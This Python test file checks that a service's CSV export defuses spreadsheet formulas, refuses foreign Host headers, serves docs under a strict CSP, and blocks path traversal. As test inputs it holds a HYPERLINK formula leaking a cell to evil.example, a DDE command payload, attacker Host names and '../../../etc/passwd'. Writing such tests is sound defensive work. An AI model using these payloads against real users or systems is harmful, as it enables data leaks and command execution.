"""Issue 12, item 8: spreadsheet formulas in CSV exports, the Host header, and /docs served by us."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from graph.export import FORMULA_STARTS
from ingest.formats import read_mapping
from ingest.loader import load

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"clic")', "@SUM(A1:A9)", "=1+1", "+cmd|' /C calc'!A0"]


@pytest.fixture
def formula_names(db):
    entities = [{"name": name, "kind": "Organization"} for name in FORMULAS]
    load(
        db,
        read_mapping(
            {
                "sources": [{"id": "src:formulas", "title": "=2+2", "url": "https://example.org/f"}],
                "entities": entities,
                "ties": [
                    {
                        "source": FORMULAS[0],
                        "target": FORMULAS[1],
                        "type": "PARTNERS_WITH",
                        "sources": ["src:formulas"],
                        "evidence": "-1 mentioned as a partner",
                    }
                ],
            },
            "formulas.yaml",
        ),
    )
    return db


def _tables(http) -> dict[str, list[list[str]]]:
    answer = http.get("/export", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        return {
            name: list(csv.reader(io.StringIO(archive.read(name).decode("utf-8"))))
            for name in archive.namelist()
        }


def test_no_exported_csv_cell_starts_a_formula(formula_names, http) -> None:
    tables = _tables(http)
    cells = [cell for rows in tables.values() for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    names = {row[0] for row in tables["entities.csv"][1:]}
    assert names == {"'" + name for name in FORMULAS}


def test_the_exported_csv_imports_back_to_the_same_names(formula_names, http) -> None:
    tables = _tables(http)
    formula_names.reset()
    out = io.StringIO()
    csv.writer(out).writerows(tables["entities.csv"])
    answer = http.post(
        "/import",
        headers={"X-API-Key": "test-api-key-0123456789"},
        files={"file": ("entities.csv", out.getvalue().encode("utf-8"))},
    )
    assert answer.status_code == 200, answer.text
    names, _, _ = formula_names.driver.execute_query(
        "MATCH (n:Entity) WHERE NOT n:Source RETURN n.name AS name"
    )
    assert sorted(r["name"] for r in names) == sorted(FORMULAS)


@pytest.mark.parametrize("host", ["evil.example", "127.0.0.1.nip.io", "attacker.localhost.example:8000"])
def test_a_request_for_another_host_name_is_refused(http, host) -> None:
    answer = http.get("/health", headers={"Host": host})
    assert answer.status_code == 400


@pytest.mark.parametrize("host", ["localhost", "localhost:8000", "127.0.0.1"])
def test_the_loopback_names_are_answered(seeded, http, host) -> None:
    assert http.get("/health", headers={"Host": host}).status_code == 200


@pytest.mark.parametrize("page", ["/docs", "/redoc"])
def test_the_documentation_pages_load_only_our_own_scripts(http, page) -> None:
    answer = http.get(page)
    assert answer.status_code == 200
    assert "script-src 'self';" in answer.headers["content-security-policy"]
    scripts = re.findall(r'<script[^>]*src="([^"]+)"', answer.text)
    styles = re.findall(r'<link[^>]*href="([^"]+)"', answer.text)
    assert scripts and "<script>" not in answer.text  # no inline script to allow
    for url in scripts + styles:
        assert url.startswith("/docs/assets/"), url
        asset = http.get(url)
        assert asset.status_code == 200 and len(asset.content) > 100, url


def test_an_unknown_documentation_asset_is_404(http) -> None:
    for name in ("../../../etc/passwd", "nope.js", "%2e%2e%2fmain.py"):
        assert http.get(f"/docs/assets/{name}").status_code == 404
